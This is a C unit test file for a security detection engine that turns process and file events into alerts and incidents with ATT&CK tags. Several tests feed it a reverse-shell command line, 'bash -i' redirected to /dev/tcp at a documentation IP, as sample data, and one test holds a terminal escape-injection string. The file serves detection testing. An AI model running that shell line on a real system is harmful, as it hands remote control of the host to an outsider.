#include <stdarg.h>
#include <setjmp.h>
#include <stddef.h>
#include <cmocka.h>
#include <stdio.h>
#include "base/clock.h"
#include "base/err.h"
#include "base/json.h"
#include "incident/attack.h"
#include "incident/incident.h"

struct fixture {
	struct fields *fields;
	struct batch *batch;
	struct view *view;
	struct enrich *enrich;
	struct arena arena;
	struct incident_builder *builder;
	struct buf out; /* JSON lines of closed incidents */
	unsigned opened, raised, grew, closed;
	char ids[16][17];
};

static struct str shell_technique[] = {{"T1059.004", 9}};
static struct str shell_tactic[] = {{"execution", 9}};
static struct str cron_technique[] = {{"T1053.003", 9}};
static struct str cron_tactic[] = {{"persistence", 11}};
static struct rule shell_rule = {
	.id = {"r-shell", 7},
	.title = {"Reverse shell over /dev/tcp", 27},
	.file = {"rules/shell.yml", 15},
	.language = {"sigma", 5},
	.severity = SEVERITY_HIGH,
	.techniques = shell_technique,
	.technique_count = 1,
	.tactics = shell_tactic,
	.tactic_count = 1,
};
static struct rule cron_rule = {
	.id = {"r-cron", 6},
	.title = {"Crontab changed", 15},
	.file = {"rules/cron.yml", 14},
	.language = {"sigma", 5},
	.severity = SEVERITY_MEDIUM,
	.techniques = cron_technique,
	.technique_count = 1,
	.tactics = cron_tactic,
	.tactic_count = 1,
};

static void heard(void *context, const struct incident *incident, enum incident_news news)
{
	struct fixture *f = context;

	f->opened += news == INCIDENT_OPENED;
	f->raised += news == INCIDENT_RAISED;
	f->grew += news == INCIDENT_GREW;
	if (news != INCIDENT_CLOSED)
		return;
	if (f->closed < 16)
		memcpy(f->ids[f->closed], incident->id, sizeof(incident->id));
	f->closed++;
	incident_write(&f->out, incident);
	buf_char(&f->out, '\n');
}

static void set_up(struct fixture *f, uint32_t open_max)
{
	struct enrich_options options = {0};
	struct incident_options incidents = {.open_max = open_max};

	*f = (struct fixture){0};
	assert_int_equal(fields_create(&f->fields, NULL), 0);
	for (unsigned i = 0; i < schema_field_count; i++)
		fields_want(f->fields, schema_fields[i].number);
	enrich_want(f->fields, &options);
	assert_int_equal(fields_freeze(f->fields, NULL), 0);
	assert_int_equal(batch_create(f->fields, &f->batch), 0);
	assert_int_equal(view_create(f->fields, &f->view), 0);
	assert_int_equal(enrich_create(f->fields, &options, &f->enrich, NULL), 0);
	assert_int_equal(incident_builder_create(&incidents, heard, f, &f->builder, NULL), 0);
	arena_init(&f->arena, 0);
}

static void tear_down(struct fixture *f)
{
	incident_builder_destroy(f->builder);
	enrich_destroy(f->enrich);
	view_destroy(f->view);
	batch_destroy(f->batch);
	fields_destroy(f->fields);
	arena_destroy(&f->arena);
	buf_destroy(&f->out);
}

static void run(struct fixture *f)
{
	struct event *event = event_commit(f->batch);

	assert_non_null(event);
	view_load(f->view, event);
	enrich_event(f->enrich, f->view);
}

static void exec_at(struct fixture *f, uint64_t s, const char *host, unsigned pid, unsigned parent,
	const char *path, const char *line)
{
	event_begin(f->batch, KIND_process_exec, s * NS_PER_S);
	ev_cstr(f->batch, FIELD_host_name, host);
	ev_uint(f->batch, FIELD_process_pid, pid);
	ev_uint(f->batch, FIELD_process_parent_pid, parent);
	ev_uint(f->batch, FIELD_process_start, s * NS_PER_S);
	ev_cstr(f->batch, FIELD_process_executable, path);
	ev_cstr(f->batch, FIELD_process_command_line, line);
	run(f);
}

static void write_at(
	struct fixture *f, uint64_t s, const char *host, unsigned pid, const char *path)
{
	event_begin(f->batch, KIND_file_modify, s * NS_PER_S);
	ev_cstr(f->batch, FIELD_host_name, host);
	ev_uint(f->batch, FIELD_process_pid, pid);
	ev_cstr(f->batch, FIELD_file_path, path);
	run(f);
}

static struct detection detect(struct fixture *f, const struct rule *rule, struct why why)
{
	struct detection detection;
	struct detection_source source = {
		.view = f->view,
		.graph = enrich_graph(f->enrich),
		.actor = enrich_actor(f->enrich),
		.files = (const char *const[]){"a.json"},
		.file_count = 1,
		.rule = rule,
		.why = &why,
		.why_count = why.op != NULL,
	};

	assert_int_equal(detection_make(&f->arena, &source, &detection), 0);
	return detection;
}

static void add(struct fixture *f, const struct rule *rule)
{
	struct detection detection = detect(f, rule, (struct why){0});

	incident_add(f->builder, &detection);
}

static const struct json_node *parse(struct fixture *f, struct str text)
{
	const char *error = NULL;
	size_t offset;
	const struct json_node *node = json_parse(&f->arena, text, &error, &offset);

	assert_null(error);
	assert_non_null(node);
	return node;
}

static void assert_text(const struct json_node *node, const char *path, const char *wanted)
{
	struct str text = {0};

	assert_true(json_text(json_path(node, path), &text));
	if (!str_is(text, wanted))
		fail_msg("%s: '%.*s' is not '%s'", path, STR_ARG(text), wanted);
}

#define LINE "bash -i >& /dev/tcp/203.0.113.5/443 0>&1"

static void alert__json_has_the_promised_keys(void **state)
{
	struct fixture f;
	struct buf buf = {0};

	set_up(&f, 0);
	exec_at(&f, 9, "web", 1, 0, "/sbin/init", "init");
	exec_at(&f, 10, "web", 5, 1, "/usr/sbin/nginx", "nginx: worker");
	exec_at(&f, 11, "web", 6, 5, "/bin/bash", LINE);
	struct detection detection = detect(&f, &shell_rule,
		(struct why){.field = FIELD_process_command_line,
			.op = "contains",
			.operand = STR("/dev/tcp/"),
			.value = value_text(STR(LINE))});
	detection_write(&buf, &detection);
	const struct json_node *node = parse(&f, buf_view(&buf));
	assert_text(node, "kind", "alert");
	assert_text(node, "rule.id", "r-shell");
	assert_text(node, "rule.file", "rules/shell.yml");
	assert_text(node, "rule.name", "Reverse shell over /dev/tcp");
	assert_text(node, "rule.language", "sigma");
	assert_text(node, "rule.severity", "high");
	assert_text(node, "process.executable", "/bin/bash");
	assert_text(node, "process.command_line", LINE);
	const struct json_node *event = json_get(node, "events")->child;
	assert_text(event, "file", "a.json");
	struct str text = {0};
	assert_true(json_text(json_get(event, "@timestamp"), &text));
	assert_true(str_is(text, "1970-01-01T00:00:11.000Z"));
	assert_true(json_text(json_get(event, "event.action"), &text));
	assert_true(str_is(text, "exec"));
	assert_non_null(json_get(event, "process.entity_id"));
	assert_non_null(json_get(event, "index"));
	assert_non_null(json_get(event, "file_index"));
	assert_true(
		str_is(json_get(json_get(node, "threat"), "technique")->child->text, "T1059.004"));
	const struct json_node *why = json_get(node, "why")->child;
	assert_true(str_is(why->text, "T1059.004 Unix Shell: Reverse shell over /dev/tcp"));
	assert_true(str_is(
		why->next->text, "process.command_line contains \"/dev/tcp/\" in \"" LINE "\""));
	const struct json_node *above = json_path(node, "process.ancestry")->child;
	assert_text(above, "executable", "/usr/sbin/nginx");
	assert_text(above->next, "executable", "/sbin/init");
	buf_destroy(&buf);
	tear_down(&f);
}

static void incident__joins_one_process_tree_and_not_another(void **state)
{
	struct fixture f;

	set_up(&f, 0);
	exec_at(&f, 9, "web", 1, 0, "/sbin/init", "init");
	exec_at(&f, 10, "web", 5, 1, "/usr/sbin/nginx", "nginx: worker");
	exec_at(&f, 11, "web", 6, 5, "/bin/bash", LINE);
	add(&f, &shell_rule);
	exec_at(&f, 20, "web", 7, 5, "/usr/bin/vi", "vi x");
	write_at(&f, 21, "web", 7, "/var/spool/cron/root");
	add(&f, &cron_rule);
	/* another service, and another host */
	exec_at(&f, 30, "web", 50, 1, "/usr/sbin/apache2", "apache2");
	exec_at(&f, 31, "web", 51, 50, "/bin/bash", LINE);
	add(&f, &shell_rule);
	exec_at(&f, 32, "db", 6, 5, "/bin/bash", LINE);
	add(&f, &shell_rule);
	incident_flush(f.builder);
	assert_int_equal(f.closed, 3);
	struct str rest = buf_view(&f.out);
	const struct json_node *node = parse(&f, str_cut(&rest, '\n'));
	assert_text(node, "kind", "incident");
	assert_text(node, "severity", "high");
	assert_text(node, "title", "Reverse shell over /dev/tcp: bash and 1 more");
	assert_int_equal(json_get(node, "alerts")->count, 2);
	assert_int_equal(json_get(node, "timeline")->count, 2);
	assert_int_equal(json_get(node, "techniques")->count, 2);
	assert_true(str_is(json_get(node, "techniques")->child->text, "T1053.003"));
	assert_true(str_is(json_get(node, "hosts")->child->text, "web"));
	uint64_t score = 0;
	assert_true(json_u64(json_get(node, "score"), &score));
	assert_true(score > 60 && score <= 100);
	tear_down(&f);
}

static void incident__folds_repeats_and_ends_with_its_window(void **state)
{
	struct fixture f;
	uint64_t count = 0;

	set_up(&f, 0);
	exec_at(&f, 10, "web", 5, 0, "/opt/agent", "agent");
	for (unsigned i = 0; i < 1000; i++) {
		write_at(&f, 11 + i, "web", 5, "/etc/cron.d/x");
		add(&f, &cron_rule);
		arena_reset(&f.arena);
	}
	write_at(&f, 5000, "web", 5, "/etc/cron.d/x");
	add(&f, &cron_rule);
	assert_int_equal(f.closed, 1);
	struct str rest = buf_view(&f.out);
	const struct json_node *node = parse(&f, str_cut(&rest, '\n'));
	assert_int_equal(json_get(node, "alerts")->count, 1);
	assert_true(json_u64(json_get(json_get(node, "alerts")->child, "count"), &count));
	assert_int_equal(count, 1000);
	assert_text(node, "severity", "medium");
	assert_non_null(
		json_get(json_get(json_get(node, "alerts")->child, "events")->child, "object"));
	tear_down(&f);
}

static void incident__two_become_one_when_linked_later(void **state)
{
	struct fixture f;

	set_up(&f, 0);
	exec_at(&f, 10, "web", 5, 1, "/usr/sbin/a", "a");
	write_at(&f, 11, "web", 5, "/srv/one");
	add(&f, &cron_rule);
	exec_at(&f, 12, "web", 6, 1, "/usr/sbin/b", "b");
	add(&f, &shell_rule);
	incident_poll(f.builder, 13 * NS_PER_S);
	incident_poll(f.builder, 15 * NS_PER_S);
	assert_int_equal(f.opened, 2);
	/* b becomes what a wrote */
	event_begin(f.batch, KIND_process_exec, 16 * NS_PER_S);
	ev_cstr(f.batch, FIELD_host_name, "web");
	ev_uint(f.batch, FIELD_process_pid, 6);
	ev_cstr(f.batch, FIELD_process_executable, "/srv/one");
	run(&f);
	add(&f, &shell_rule);
	assert_int_equal(incident_stats(f.builder).merged, 1);
	incident_flush(f.builder);
	assert_int_equal(f.closed, 1);
	const struct json_node *node = parse(&f, str_trim(buf_view(&f.out)));
	assert_int_equal(json_get(node, "alerts")->count, 3);
	tear_down(&f);
}

static void incident__what_one_takes_in_is_bounded(void **state)
{
	struct fixture f;
	uint64_t count = 0;

	set_up(&f, 0);
	exec_at(&f, 10, "web", 5, 1, "/usr/sbin/a", "a");
	write_at(&f, 11, "web", 5, "/srv/one");
	add(&f, &cron_rule);
	for (unsigned i = 0; i < 100; i++) {
		exec_at(&f, 20 + i, "web", 1000 + i, 1, "/usr/sbin/b", "b");
		add(&f, &shell_rule);
		event_begin(f.batch, KIND_process_exec, (20 + i) * NS_PER_S);
		ev_cstr(f.batch, FIELD_host_name, "web");
		ev_uint(f.batch, FIELD_process_pid, 1000 + i);
		ev_cstr(f.batch, FIELD_process_executable, "/srv/one");
		run(&f);
		add(&f, &shell_rule);
		arena_reset(&f.arena);
		batch_clear(f.batch);
	}
	assert_int_equal(incident_stats(f.builder).merged, 100);
	incident_flush(f.builder);
	assert_int_equal(f.closed, 1);
	const struct json_node *node = parse(&f, str_trim(buf_view(&f.out)));
	assert_true(json_u64(json_get(node, "dropped"), &count));
	assert_int_equal(count, 100 - 64);
	tear_down(&f);
}

static void incident__stories_come_once_and_again_when_worse(void **state)
{
	struct fixture f;

	set_up(&f, 0);
	exec_at(&f, 10, "web", 5, 1, "/usr/sbin/a", "a");
	write_at(&f, 11, "web", 5, "/srv/one");
	add(&f, &cron_rule);
	incident_poll(f.builder, 100 * NS_PER_S);
	assert_int_equal(f.opened, 0);
	incident_poll(f.builder, 101 * NS_PER_S);
	assert_int_equal(f.opened, 1);
	/* the same again is no news */
	add(&f, &cron_rule);
	incident_poll(f.builder, 103 * NS_PER_S);
	incident_poll(f.builder, 105 * NS_PER_S);
	assert_int_equal(f.opened + f.raised + f.grew, 1);
	/* a minute later it is */
	write_at(&f, 80, "web", 5, "/srv/one");
	add(&f, &cron_rule);
	incident_poll(f.builder, 105 * NS_PER_S);
	incident_poll(f.builder, 106 * NS_PER_S);
	assert_int_equal(f.grew, 1);
	add(&f, &shell_rule);
	incident_poll(f.builder, 107 * NS_PER_S);
	assert_int_equal(f.raised, 0);
	incident_poll(f.builder, 108 * NS_PER_S);
	assert_int_equal(f.raised, 1);
	incident_poll(f.builder, 108 * NS_PER_S + UINT64_C(7200) * NS_PER_S);
	assert_int_equal(f.closed, 1);
	tear_down(&f);
}

static void incident__the_number_open_is_bounded(void **state)
{
	struct fixture f;

	set_up(&f, 8);
	for (unsigned i = 0; i < 100; i++) {
		exec_at(&f, 10 + i, "web", 100 + i, 1, "/usr/bin/x", "x");
		add(&f, &shell_rule);
	}
	assert_int_equal(f.closed, 92);
	assert_int_equal(incident_stats(f.builder).evicted, 92);
	tear_down(&f);
}

static void incident__what_one_holds_is_bounded(void **state)
{
	struct fixture f;
	uint64_t dropped = 0;

	set_up(&f, 0);
	exec_at(&f, 10, "web", 5, 0, "/opt/agent", "agent");
	for (unsigned i = 0; i < 600; i++) {
		char line[32];
		(void)snprintf(line, sizeof(line), "x %u", i);
		exec_at(&f, 11 + i, "web", 1000 + i, 5, "/usr/bin/x", line);
		add(&f, &shell_rule);
		arena_reset(&f.arena);
		batch_clear(f.batch);
	}
	incident_gap(f.builder, STR("web"), 700 * NS_PER_S, 42, STR("ring full"));
	incident_flush(f.builder);
	const struct json_node *node = parse(&f, str_trim(buf_view(&f.out)));
	assert_int_equal(json_get(node, "alerts")->count, 256);
	assert_true(json_u64(json_get(node, "dropped"), &dropped));
	assert_true(dropped >= 600 - 256);
	assert_true(json_u64(json_get(node, "lost_events"), &dropped));
	assert_int_equal(dropped, 42);
	tear_down(&f);
}

static void incident__ids_are_the_same_on_every_run(void **state)
{
	char ids[2][17];

	for (unsigned i = 0; i < 2; i++) {
		struct fixture f;
		set_up(&f, 0);
		exec_at(&f, 10, "web", 5, 0, "/bin/bash", LINE);
		add(&f, &shell_rule);
		incident_flush(f.builder);
		memcpy(ids[i], f.ids[0], sizeof(ids[i]));
		tear_down(&f);
	}
	assert_string_equal(ids[0], ids[1]);
	assert_int_equal(strlen(ids[0]), 16);
}

static struct str told;
static struct buf story;
static void tell_story(void *context, const struct incident *incident, enum incident_news news)
{
	incident_story(&story, incident, context);
	told = buf_view(&story);
}

static void story__shows_the_tree_and_is_harmless(void **state)
{
	struct fixture f;
	struct incident_builder *builder;
	struct story_options options = {.unicode = true, .news = INCIDENT_CLOSED};

	set_up(&f, 0);
	assert_int_equal(incident_builder_create(&(struct incident_options){0}, tell_story,
				 &options, &builder, NULL),
		0);
	exec_at(&f, 9, "web", 1, 0, "/sbin/init", "init");
	exec_at(&f, 10, "web", 5, 1, "/usr/sbin/nginx", "nginx: worker");
	exec_at(&f, 11, "web", 6, 5, "/bin/bash", "bash -c \033[2Jx\n" LINE);
	struct detection detection = detect(&f, &shell_rule, (struct why){0});
	incident_add(builder, &detection);
	incident_flush(builder);
	assert_true(str_find(told, STR("HIGH  score 55  Reverse shell")) >= 0);
	assert_true(str_find(told, STR("T1059.004 Unix Shell")) >= 0);
	assert_true(str_find(told, STR("  └─ nginx: worker")) >= 0);
	assert_true(str_find(told, STR("     └─ bash -c \\x1b[2Jx\\n" LINE)) >= 0);
	assert_null(memchr(told.ptr, '\033', told.len));
	buf_destroy(&story);
	story = (struct buf){0};
	incident_builder_destroy(builder);
	tear_down(&f);
}

static void story__of_what_grew_tells_only_what_is_fresh(void **state)
{
	struct fixture f;
	struct incident_builder *builder;
	struct story_options options = {.news = INCIDENT_OPENED};

	set_up(&f, 0);
	assert_int_equal(incident_builder_create(&(struct incident_options){0}, tell_story,
				 &options, &builder, NULL),
		0);
	exec_at(&f, 10, "web", 5, 1, "/usr/sbin/nginx", "nginx: worker");
	exec_at(&f, 11, "web", 6, 5, "/bin/bash", LINE);
	struct detection detection = detect(&f, &shell_rule, (struct why){0});
	incident_add(builder, &detection);
	incident_poll(builder, 12 * NS_PER_S);
	incident_poll(builder, 13 * NS_PER_S);
	assert_true(str_find(told, STR("`- bash -i")) >= 0);
	buf_clear(&story);
	exec_at(&f, 20, "web", 7, 5, "/usr/bin/crontab", "crontab -");
	detection = detect(&f, &cron_rule, (struct why){0});
	incident_add(builder, &detection);
	options.news = INCIDENT_GREW;
	incident_poll(builder, 20 * NS_PER_S);
	incident_poll(builder, 21 * NS_PER_S);
	assert_true(str_find(told, STR("  nginx: worker")) >= 0);
	assert_true(str_find(told, STR("`- crontab -")) >= 0);
	assert_true(str_find(told, STR("bash -i")) < 0);
	assert_true(str_find(told, STR("1 earlier finding is left out")) >= 0);
	buf_destroy(&story);
	story = (struct buf){0};
	incident_builder_destroy(builder);
	tear_down(&f);
}

static void attack__names_are_found(void **state)
{
	assert_true(str_is(attack_name(STR("T1059")), "Command and Scripting Interpreter"));
	assert_true(str_is(attack_name(STR("T1059.004")), "Unix Shell"));
	assert_true(str_is(attack_name(STR("T1001")), "Data Obfuscation"));
	assert_true(str_is(attack_name(STR("T1668")), "Exclusive Control"));
	assert_true(str_is(attack_name(STR("T1059.999")), "Command and Scripting Interpreter"));
	assert_int_equal(attack_name(STR("T9999")).len, 0);
	assert_int_equal(attack_name(STR("")).len, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(alert__json_has_the_promised_keys),
		cmocka_unit_test(incident__joins_one_process_tree_and_not_another),
		cmocka_unit_test(incident__folds_repeats_and_ends_with_its_window),
		cmocka_unit_test(incident__two_become_one_when_linked_later),
		cmocka_unit_test(incident__what_one_takes_in_is_bounded),
		cmocka_unit_test(incident__stories_come_once_and_again_when_worse),
		cmocka_unit_test(incident__the_number_open_is_bounded),
		cmocka_unit_test(incident__what_one_holds_is_bounded),
		cmocka_unit_test(incident__ids_are_the_same_on_every_run),
		cmocka_unit_test(story__shows_the_tree_and_is_harmless),
		cmocka_unit_test(story__of_what_grew_tells_only_what_is_fresh),
		cmocka_unit_test(attack__names_are_found),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
